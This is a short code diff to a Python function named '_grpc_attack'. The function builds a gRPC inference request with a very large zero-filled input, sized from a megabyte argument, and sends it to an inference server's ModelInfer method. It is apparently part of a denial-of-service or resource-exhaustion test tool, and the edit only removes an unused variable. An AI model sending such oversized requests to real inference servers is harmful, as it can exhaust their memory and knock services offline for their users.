@@ -104,8 +104,7 @@ async def _grpc_attack(channel, args) -> str:
 
     req = service_pb2.ModelInferRequest(model_name=args.model)
     n = args.grpc_mib * MIB // 4
-    inp = req.inputs.add(name=args.input, datatype="FP32", shape=[n // args.features, args.features])
-    del inp
+    req.inputs.add(name=args.input, datatype="FP32", shape=[n // args.features, args.features])
     req.raw_input_contents.append(b"\0" * (n // args.features * args.features * 4))
     call = channel.unary_unary(
         "/inference.GRPCInferenceService/ModelInfer",
